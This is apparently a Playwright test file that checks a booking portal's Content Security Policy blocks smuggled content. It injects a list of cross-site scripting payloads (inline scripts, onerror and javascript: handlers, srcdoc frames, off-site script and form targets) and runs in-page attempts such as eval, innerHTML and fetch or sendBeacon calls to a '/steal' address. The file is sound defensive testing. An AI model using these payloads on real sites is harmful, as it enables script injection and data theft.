"""The policy of the pages, proven by trying: what somebody smuggles into a page does not run, load, call or leave."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect

from tests.functions.acting import House
from tests.portal.portal import Portal

PATHS = ["/bookings", "/nothing", "/book"]
# Everything that the policy stopped, as `directive address`.
LISTEN = """
  globalThis.stopped = [];
  document.addEventListener("securitypolicyviolation",
    (event) => globalThis.stopped.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""
# As a fault of ours in the HTML would let it in: the strictest test, since here no script has to run first.
SMUGGLED = """
  <script>globalThis.ran = "inline script"</script>
  <script type="module">globalThis.ran = "inline module"</script>
  <script src="{there}/script.js"></script>
  <img src="data:x" onerror="globalThis.ran = 'handler'">
  <img src="{there}/picture.png">
  <svg onload="globalThis.ran = 'svg'"></svg>
  <a id="link" href="javascript:globalThis.ran = 'link'">x</a>
  <iframe src="{there}/frame"></iframe>
  <iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>
  <object data="{there}/object"></object>
  <embed src="{there}/embed">
  <link rel="stylesheet" href="{there}/style.css">
  <form id="form" action="{there}/form"><input name="secret" value="1"></form>
  <base href="{there}/">
"""


def opened_with(portal: Portal, path: str, smuggled: str) -> tuple[Page, list[str]]:
    """The page with something in its HTML that we did not put there, and every address beside ours that was asked."""
    page = portal.window()
    page.add_init_script(LISTEN)
    asked: list[str] = []
    own = tuple(portal.house.env[name] for name in ("FUNCTIONS_URL", "SUPABASE_URL", "CALCOM_ORIGIN"))

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    def smuggle(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</body>", smuggled + "</body>"))

    page.route(lambda url: not url.startswith((*own, "data:")), note)
    page.route(portal.url + path, smuggle)
    page.goto(portal.url + path)
    expect(page.get_by_role("navigation", name="Pages")).to_be_visible()
    return page, asked


@pytest.mark.parametrize("path", PATHS)
def test_what_is_smuggled_into_a_page_does_nothing(portal: Portal, house: House, path: str) -> None:
    portal.expect("Content Security Policy", "status of 404", "data:x")
    portal.expect("/embed/embed.js")  # which a page from a test's hand may not fetch from this machine
    there = house.env["RESEND_API_URL"]
    page, asked = opened_with(portal, path, SMUGGLED.format(there=there))
    page.evaluate("document.getElementById('link').click()")
    page.evaluate("document.getElementById('form').submit()")
    page.wait_for_timeout(200)

    assert page.evaluate("globalThis.ran") is None
    assert page.url == portal.url + path
    assert asked == []
    assert page.evaluate("document.baseURI").startswith(portal.url)
    stopped = page.evaluate("stopped")
    expected = ["script-src-elem inline", "script-src-attr inline", f"script-src-elem {there}/script.js"]
    expected += [f"img-src {there}/picture.png", f"style-src-elem {there}/style.css", f"frame-src {there}"]
    expected += [f"form-action {there}/form", f"base-uri {there}"]
    for one in expected:
        assert [found for found in stopped if found.startswith(one)], (one, stopped)


TRIES = {
    "eval": "eval('globalThis.ran = 1')",
    "Function": "new Function('globalThis.ran = 1')()",
    "a timer of text": "setTimeout('globalThis.ran = 1')",
    "innerHTML": "document.body.innerHTML += '<img src=x onerror=\"globalThis.ran = 1\">'",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "srcdoc": "document.createElement('iframe').srcdoc = '<script>parent.ran = 1</script>'",
    "a script's text": "document.createElement('script').textContent = 'globalThis.ran = 1'",
    "a script's address": "document.createElement('script').src = 'data:text/javascript,globalThis.ran=1'",
    "document.write": "document.write('<b>x</b>')",
    "a policy of its own": "trustedTypes.createPolicy('mine', {createHTML: (text) => text}).createHTML('<b>x</b>')",
    "a worker": "new Worker('data:text/javascript,1')",
    "a call": "await fetch('{there}/steal')",
    "a beacon": "navigator.sendBeacon('{there}/steal'); await new Promise((resolve) => setTimeout(resolve, 50))",
    "a socket": "await new Promise((_, reject) => { new WebSocket('ws://127.0.0.1:9').onerror = reject; })",
}


def test_a_script_that_came_in_cannot_go_further(portal: Portal, house: House) -> None:
    """Even code that runs in the page can neither make code or markup of text, nor tell anybody anything."""
    portal.expect("Content Security Policy", "TrustedHTML|TrustedScript", "ERR_BLOCKED_BY_CSP|violates")
    page, asked = opened_with(portal, "/bookings", "")
    for what, code in TRIES.items():
        outcome: Any = page.evaluate(
            # Later and by itself: what a debugger evaluates may do more than a page's own code.
            f"""() => new Promise((done) => setTimeout(async () => {{
                globalThis.stopped.length = 0;
                try {{ {code.replace("{there}", house.env["RESEND_API_URL"])}; done("ran"); }}
                catch (error) {{ done(error.name ?? error.type); }}
            }}))"""
        )
        page.wait_for_timeout(20)
        assert (page.evaluate("globalThis.ran"), asked) == (None, []), what
        assert page.evaluate("stopped") != [], (what, outcome)


def test_a_broken_rule_fails_a_test(portal: Portal) -> None:
    """The tests themselves notice: this is what every other one relies on."""
    page = portal.open("/bookings")
    page.evaluate(
        "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'data:,'}))"
    )
    page.evaluate("setTimeout(() => { throw new Error('from the page') })")
    page.evaluate("console.error('said by the page')")
    page.wait_for_timeout(100)
    complaints = "\n".join(portal.unexpected())
    for part in ("Content Security Policy", "from the page", "said by the page"):
        assert part in complaints
    portal.expect(".")
